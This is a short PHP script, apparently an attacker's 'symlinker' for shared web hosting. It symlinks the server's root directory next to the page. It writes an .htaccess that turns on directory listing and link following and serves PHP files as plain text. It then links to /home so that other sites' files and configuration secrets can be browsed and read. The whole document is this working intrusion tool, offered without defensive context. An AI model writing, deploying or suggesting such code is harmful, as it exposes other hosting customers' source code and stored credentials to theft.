<?php
// A symlinker: the server's root linked beside this page, listed through an .htaccess that turns
// on indexes and follows links, so every other site's files (and configurations) can be read.
@mkdir('sym', 0755);
@symlink('/', 'sym/root');
$h = @fopen('sym/.htaccess', 'w');
@fwrite($h, "Options Indexes FollowSymLinks\nDirectoryIndex nothing.html\nAddType text/plain .php\nAddHandler text/plain .php\n");
@fclose($h);
echo '<a href="sym/root/home/" target="_blank">/home</a>';
